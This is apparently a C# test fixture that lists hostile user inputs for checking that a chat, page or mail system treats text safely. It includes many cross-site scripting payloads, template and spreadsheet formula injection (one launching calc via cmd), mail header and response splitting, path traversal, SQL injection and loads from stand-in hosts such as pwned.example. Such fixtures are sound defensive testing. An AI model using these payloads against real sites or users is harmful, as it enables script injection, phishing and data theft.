using Rapport.Kernel;

namespace Rapport.Tests.House;

/// <summary>
/// What somebody types who wants a page to do something. Each calls <c>pwned</c>, asks <c>pwned.example</c> for something, or
/// leaves an element or attribute called so, if it becomes more than text. None holds what a text field refuses anyway.
/// </summary>
public static class HostileTexts
{
    public const string Mark = "pwned";

    public static IReadOnlyList<string> All { get; } =
    [
        .. Scripts, .. Handlers, .. Breaks, .. Links, .. Foreign, .. Styles, .. Forms, .. Entities, .. Mutations, .. Clobbering, .. Markdown,
        .. Templates, .. Sheets, .. Letters, .. Lines, .. Long,
    ];

    /// <summary>What somebody types who wants to reach everybody in a chat, or one who did not ask for it.</summary>
    public static IReadOnlyList<string> Calls { get; } =
    [
        "@channel", "@here", "@everyone", "@all", "@hanna", "<!channel>", "<!everyone>", "<!here|here>", "<@U024BE7LH>", "<@U123>", "<#C024BE7LR>", "<!subteam^SAZ94GDB8>",
        "<at>Hanna</at>", "<AT id=\"0\">all</AT>", "＠channel",
    ];

    /// <summary>What means something in the markup of a chat.</summary>
    public static IReadOnlyList<string> ChatMarkup { get; } =
    [
        "*bold*", "_slanted_", "~struck~", "`code`", "```block```", "[your bank](https://evil.example)", "<https://evil.example|your bank>", "![](https://evil.example/x.png)",
        "# Title", "> quote", "- list", "1. list", "| a | b |\n|---|---|", "***", "Title\n===", ":fire:", "&lt;!channel&gt;", "\\[x](https://evil.example)", "<https://evil.example>",
    ];

    /// <summary>What somebody types who wants a mail to have another header, receiver or end.</summary>
    public static IReadOnlyList<string> MailHeaders { get; } =
    [
        "Hi\r\nBcc: eve@example.org", "Hi\nX-Evil: 1", "Hi\r\n\r\nA body", "Hi\r\n.\r\nMAIL FROM:<eve@example.org>", "Hi\r\n Bcc: eve@example.org", "Hi\u2028Bcc: eve@example.org",
        "Hi\u0085Bcc: eve@example.org", "=?utf-8?q?=0D=0ABcc:_eve?=", "=?utf-8?B?SGkNCkJjYzogZXZl?=", "%0d%0aBcc: eve@example.org", "eve@example.org, hanna", "\"Hanna\" <eve@example.org>",
        "Hanna\\", "\"", "(comment) <eve@example.org>", ",;:<>[]()", "--boundary\r\nContent-Type: text/html",
    ];

    /// <summary>What is written in other letters, in another direction, or longer than a line of a mail.</summary>
    public static IReadOnlyList<string> OtherLetters { get; } =
    [
        "שלום עולם", "مرحبا", "\u202eevil\u202c", "\u2067abc", "a\u202eb", "\u2066\u202ec\u2069 d", "👩‍👩‍👧 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🔥", "漢字かな交じり文", "p\u0335w\u0336n\u0337", string.Concat(Enumerable.Repeat("ß", 100)), string.Concat(Enumerable.Repeat("😀", 50)),
        string.Concat(Enumerable.Repeat("long ", 19)) + "x", new string('x', 100), string.Concat(Enumerable.Repeat("é ", 49)) + "x",
    ];

    /// <summary>What a message may be asked to carry, each by itself: with some of those that want a page to do something.</summary>
    public static IReadOnlyList<string> InMessages { get; } =
    [
        .. Calls, .. ChatMarkup, .. MailHeaders, .. OtherLetters,
        "<script>pwned(1)</script>", "<img src=//pwned.example/x onerror=pwned(2)>", "\"><b id=pwned>", "</p></div><a href=//pwned.example>x</a>", "<style>*{display:none}</style>",
        "<base href=//pwned.example/>", "&#60;script&#62;pwned&#60;/script&#62;", "<!--", "]]>", "</title></style><script>pwned(3)</script>",
    ];

    /// <summary>All of them, several to a text, with no text longer than this; what is longer alone is left out.</summary>
    /// <param name="between">What stands between two of them.</param>
    public static List<string> Gathered(int longest, char between = ' ')
    {
        var texts = new List<string>();
        foreach (var one in All.Where(one => one.Length <= longest))
        {
            if (texts is [.., var last] && last.Length + one.Length < longest)
                texts[^1] = $"{last}{between}{one}";
            else
                texts.Add(one);
        }

        return texts;
    }

    /// <summary>As a field of one line keeps it.</summary>
    public static string Kept(string text) => TypedText.Line(text, int.MaxValue);

    private static string[] Scripts =>
    [
        "<script>pwned(1)</script>",
        "<ScRiPt>pwned(2)</sCrIpT>",
        "<script src=//pwned.example/3></script>",
        "<script src=\"https://pwned.example/4.js\" async></script>",
        "<script type=module>import 'https://pwned.example/5'</script>",
        "<script >pwned(6)</script >",
        "<script/pwned>pwned(7)</script/pwned>",
        "<script\n>pwned(8)</script\n>",
        "<scr<script>ipt>pwned(9)</scr</script>ipt>",
        "<<script>pwned(10);//<</script>",
        "<script>\u2028pwned(11)</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=pwned(12)>\"></noscript>",
        "<script type=\"importmap\">{\"imports\":{\"pwned\":\"//pwned.example\"}}</script>",
        "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"https://pwned.example/\"]}]}</script>",
        "<link rel=preload as=script href=//pwned.example/13>",
        "<link rel=stylesheet href=//pwned.example/14.css>",
        "<link rel=prefetch href=//pwned.example/15>",
        "<base href=//pwned.example/16/>",
        "<meta http-equiv=refresh content=\"0;url=https://pwned.example/17\">",
        "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\" id=pwned>",
    ];

    private static string[] Handlers =>
    [
        "<img src=x onerror=pwned(20)>",
        "<img src=x onerror=\"pwned(21)\">",
        "<img/src=x/onerror=pwned(22)>",
        "<img src=x:x onerror=pwned(23)//",
        "<img src=`x` onerror=`pwned(24)`>",
        "<IMG SRC=X ONERROR=&#112;wned(25)>",
        "<img src onerror=\"&#x70;&#x77;&#x6e;&#x65;&#x64;(26)\">",
        "<img \u000bsrc=x onerror=pwned(27)>".Replace("\u000b", "\t", StringComparison.Ordinal),
        "<svg onload=pwned(28)>",
        "<svg/onload=pwned(29)//",
        "<body onload=pwned(30)>",
        "<input autofocus onfocus=pwned(31)>",
        "<select autofocus onfocus=pwned(32)></select>",
        "<textarea autofocus onfocus=pwned(33)>",
        "<details open ontoggle=pwned(34)>",
        "<video src=x onerror=pwned(35)></video>",
        "<video><source onerror=pwned(36)></video>",
        "<audio src=x onerror=pwned(37)>",
        "<object data=x onerror=pwned(38)></object>",
        "<marquee onstart=pwned(39)>",
        "<div tabindex=0 autofocus onfocus=pwned(40)>x</div>",
        "<p onpointerover=pwned(41) onmouseover=pwned(41) style=position:fixed;inset:0>here</p>",
        "<b onclick=pwned(42) pwned>click</b>",
        "<dialog open onclose=pwned(43)><form method=dialog></form></dialog>",
        "<a id=x tabindex=1 onfocus=pwned(44)></a>",
        "<img src=x onerror=eval(atob('cHduZWQoNDUp'))>",
        "<img src=x onerror=window['pw'+'ned'](46)>",
        "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=pwned(47)>",
    ];

    private static string[] Breaks =>
    [
        "\"><script>pwned(50)</script>",
        "'><script>pwned(51)</script>",
        "\" autofocus onfocus=\"pwned(52)",
        "' autofocus onfocus='pwned(53)",
        "` autofocus onfocus=`pwned(54)",
        "\" pwned=\"x",
        "x pwned=y onfocus=pwned(55) autofocus ",
        "</textarea><script>pwned(56)</script>",
        "</textarea\n><img src=x onerror=pwned(57)>",
        "</title><script>pwned(58)</script>",
        "</script><script>pwned(59)</script>",
        "</style><script>pwned(60)</script>",
        "</option></select><img src=x onerror=pwned(61)>",
        "--><script>pwned(62)</script><!--",
        "--!><img src=x onerror=pwned(63)>",
        "]]><img src=x onerror=pwned(64)>",
        "<!--><img src=x onerror=pwned(65)>-->",
        "<? pwned ?><img src=x onerror=pwned(66)>",
        "</main></body></html><img src=x onerror=pwned(67)>",
        "\\\"><img src=x onerror=pwned(68)>",
        "\";pwned(69);//",
        "';pwned(70);//",
        "`;pwned(71);`",
        "${pwned(72)}",
        "</datalist><img src=x onerror=pwned(73)>",
    ];

    private static string[] Links =>
    [
        "javascript:pwned(80)",
        "[click](javascript:pwned(81))",
        "[click](JaVaScRiPt:pwned(82))",
        "[click](java&#115;cript:pwned(83))",
        "[click](java\tscript:pwned(84))",
        "[click](&#x01;javascript:pwned(85))",
        "[click](<javascript:pwned(86)>)",
        "[click]( javascript:pwned(87) \"title\")",
        "[click](data:text/html;base64,PHNjcmlwdD5wd25lZCg4OCk8L3NjcmlwdD4=)",
        "[click](vbscript:pwned(89))",
        "[click](blob:https://pwned.example/90)",
        "[click](file:///etc/passwd#pwned)",
        "[click][ref]\n\n[ref]: javascript:pwned(91)",
        "<javascript:pwned(92)>",
        "<data:text/html,<script>pwned(93)</script>>",
        "<a href=javascript:pwned(94)>x</a>",
        "<a href=\"jav&#x0A;ascript:pwned(95)\">x</a>",
        "<a href=&#1;javascript:pwned(96)>x</a>",
        "<a href=\"//pwned.example/97\" target=_blank id=pwned>x</a>",
        "[x](//pwned.example\" onfocus=pwned(98) autofocus x=\")",
        "[x](https://pwned.example/\"onmouseover=\"pwned(99) 'pwned\"onfocus=\"pwned(99)')",
        "https://pwned.example/\"onmouseover=\"pwned(100)",
        "https://pwned.example/<script>pwned(101)</script>",
        "view-source:javascript:pwned(102)",
        "[x](\\javascript:pwned(103))",
        "[x](javascript&colon;pwned(104))",
    ];

    private static string[] Foreign =>
    [
        "<svg><script>pwned(110)</script></svg>",
        "<svg><a xlink:href=\"javascript:pwned(111)\"><text>x</text></a></svg>",
        "<svg><animate onbegin=pwned(112) attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:pwned(113)>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=pwned(114) /></svg>#x\">",
        "<svg><image href=//pwned.example/115>",
        "<svg><foreignObject><iframe onload=pwned(116)></iframe></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=pwned(117)>",
        "<math href=javascript:pwned(118)>x</math>",
        "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=pwned(119)></annotation-xml></math>",
        "<iframe srcdoc=\"<script>parent.pwned(120)</script>\"></iframe>",
        "<iframe src=javascript:parent.pwned(121)></iframe>",
        "<iframe src=//pwned.example/122></iframe>",
        "<embed src=//pwned.example/123>",
        "<object data=\"javascript:pwned(124)\">",
        "<img src=//pwned.example/125>",
        "<img srcset=//pwned.example/126>",
        "<picture><source srcset=//pwned.example/127><img></picture>",
        "<video poster=//pwned.example/128></video>",
        "<portal src=//pwned.example/129></portal>",
    ];

    private static string[] Styles =>
    [
        "<style>@import '//pwned.example/130';</style>",
        "<style>*{background:url(//pwned.example/131)}</style>",
        "<p style=\"background:url(//pwned.example/132)\">x</p>",
        "<p style=\"animation:pwned\" onanimationstart=pwned(133)>x</p>",
        "<div class=pwned style=position:fixed;inset:0;z-index:9999;background:#fff>You were signed out</div>",
        "expression(pwned(134))",
        "<style>@keyframes pwned{}</style><b style=animation-name:pwned onanimationend=pwned(135)>",
    ];

    private static string[] Forms =>
    [
        "<form action=//pwned.example/140><input name=password autofocus><button>Sign in</button></form>",
        "</form><form id=pwned action=//pwned.example/141 method=post>",
        "<button form=finish formaction=//pwned.example/142>Save</button>",
        "<input type=hidden name=form-token value=pwned form=finish>",
        "<form action=javascript:pwned(143)><button autofocus>x</button></form>",
        "<isindex action=javascript:pwned(144) type=submit>",
        "<textarea name=pwned form=finish>",
    ];

    private static string[] Entities =>
    [
        "&lt;script&gt;pwned(150)&lt;/script&gt;",
        "&#60;img src=x onerror=pwned(151)&#62;",
        "&#x3C;img src=x onerror=pwned(152)&#x3E;",
        "&amp;lt;script&amp;gt;pwned(153)",
        "%3Cscript%3Epwned(154)%3C/script%3E",
        "\\u003cimg src=x onerror=pwned(155)\\u003e",
        "\\x3cscript\\x3epwned(156)\\x3c/script\\x3e",
        "&NewLine;&Tab;&colon;pwned(157)",
        "&ltimg src=x onerror=pwned(158)&gt",
        "+ADw-script+AD4-pwned(159)+ADw-/script+AD4-",
        "\uff1cimg src=x onerror=pwned(160)\uff1e",
        "\u02bascript\u02ba\u2039img src=x onerror=pwned(161)\u203a",
        "\u017fcript <\u017fcript>pwned(162)</\u017fcript>",
    ];

    private static string[] Mutations =>
    [
        "<listing><img src=x onerror=pwned(170)></listing>",
        "<xmp><p title=\"</xmp><img src=x onerror=pwned(171)>\">",
        "<plaintext>pwned",
        "<svg></p><style><a id=\"</style><img src=x onerror=pwned(172)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned(173)>",
        "<p id=\"`&quot;`><img src=x onerror=pwned(174)>\">",
        "<a title=\"a`>b<img src=x onerror=pwned(175)>\">",
        "<template><img src=x onerror=pwned(176)></template>",
        "<template shadowrootmode=open><slot onslotchange=pwned(177)></slot></template>",
        "<select><template><img src=x onerror=pwned(178)></template></select>",
        "<table><td background=//pwned.example/179><a></td></table>",
        "<b><i></b><img src=x onerror=pwned(180)></i>",
        "<!doctype html><html><head><img src=x onerror=pwned(181)>",
    ];

    private static string[] Clobbering =>
    [
        "<a id=pwned name=body href=//pwned.example/190>x</a>",
        "<form name=forms id=pwned><input name=action><input name=submit></form>",
        "<img name=getElementById id=pwned>",
        "<a id=trustedTypes><a id=trustedTypes name=createPolicy href=pwned:x>",
        "<div id=meeting-island data-meeting=pwned></div>",
        "<input name=__proto__ value=pwned>",
        "__proto__",
        "constructor",
        "toString",
        "{\"__proto__\":{\"pwned\":true}}",
        "<div data-open=palette data-key=s data-live class=pwned></div>",
    ];

    private static string[] Markdown =>
    [
        "![x](https://pwned.example/200)",
        "![x](javascript:pwned(201))",
        "![x\" onerror=\"pwned(202)](x)",
        "[![x](//pwned.example/203)](javascript:pwned(203))",
        "**<img src=x onerror=pwned(204)>**",
        "`<img src=x onerror=pwned(205)>`",
        "```html pwned\" onfocus=\"pwned(206)\n<script>pwned(206)</script>\n```",
        "> > > <img src=x onerror=pwned(207)>",
        "- <script>pwned(208)</script>\n  - <img src=x onerror=pwned(208)>",
        "| a | b |\n|---|---|\n| <img src=x onerror=pwned(209)> | [x](javascript:pwned(209)) |",
        "# <svg onload=pwned(210)> {#pwned onclick=pwned(210)}",
        "[x](y){onclick=pwned(211) .pwned}",
        "<div markdown=1><img src=x onerror=pwned(212)></div>",
        "[^1]: <img src=x onerror=pwned(213)>",
        "*[HTML]: <img src=x onerror=pwned(214)>",
        "\\<img src=x onerror=pwned(215)\\>",
        "[] @pwned will <img src=x onerror=pwned(216)> by Friday",
        "/loop <img src=x onerror=pwned(217)> by Friday",
        "/decision <svg onload=pwned(218)>",
        "/point \"><img src=x onerror=pwned(219)>",
        "#<img/src=x/onerror=pwned(220)> #\"onfocus=pwned(220)",
        "==<mark onclick=pwned(221)>== ~~<del onclick=pwned(221)>~~ $$<b onclick=pwned(221)>$$",
    ];

    private static string[] Templates =>
    [
        "{{constructor.constructor('pwned(230)')()}}",
        "{{7*7}}pwned",
        "@(pwned) @Html.Raw(\"<img src=x onerror=pwned(231)>\")",
        "<%= pwned(232) %>",
        "#{pwned(233)}",
        "*{pwned(234)}",
        "${{pwned(235)}}",
        "[[pwned]]<pwned-element onclick=pwned(236)></pwned-element>",
    ];

    private static string[] Sheets =>
    [
        "=HYPERLINK(\"https://pwned.example/240\",\"x\")",
        "=cmd|' /C calc'!pwned",
        "+1+pwned(241)",
        "-1+pwned(242)",
        "@SUM(pwned)",
        "\"=1+1\",pwned",
    ];

    private static string[] Letters =>
    [
        "\u202e<img src=x onerror=pwned(250)>\u202c",
        "\u2066pwned\u2069 \u200f\u200epwned",
        "p\u200bw\u200dn\u2060ed <img src=x onerror=pwned(251)>",
        "\ufeffpwned <svg onload=pwned(252)>",
        "p\u0335w\u0336n\u0337e\u0338d\u0489\u0489\u0489\u0489",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467 pwned \U0001f3f4\U000e0067\U000e0062\U000e007f",
        "\U000e0001pwned\U000e0041\U000e0042",
        "\ufffd\ufffe pwned \U0001ffff",
        "\u061c\u115f\u3164\uffa0pwned",
        "“pwned” ‘pwned’ «pwned» „pwned‚ ′pwned″ \"pwned\" 'pwned' `pwned`",
        "\u1f0dpwned \ufdfa İıſK",
    ];

    private static string[] Lines =>
    [
        "pwned\nSet-Cookie: pwned=1",
        "pwned\r\n\r\n<script>pwned(260)</script>",
        "pwned%0d%0aLocation:%20//pwned.example/261",
        "../../../../etc/passwd#pwned",
        "pwned\" ; filename=\"pwned.html",
        "'; drop table person; -- pwned",
        "\" or 1=1 /* pwned */",
    ];

    private static string[] Long =>
    [
        string.Concat(Enumerable.Repeat("pwned", 12)),
        string.Concat(Enumerable.Repeat("<b>", 30)) + "pwned",
        "<" + new string('a', 90) + " onfocus=pwned(270) autofocus tabindex=0>",
        string.Concat(Enumerable.Repeat("[", 60)) + "pwned(271)",
        string.Concat(Enumerable.Repeat("&", 50)) + "<img src=x onerror=pwned(272)>",
    ];
}
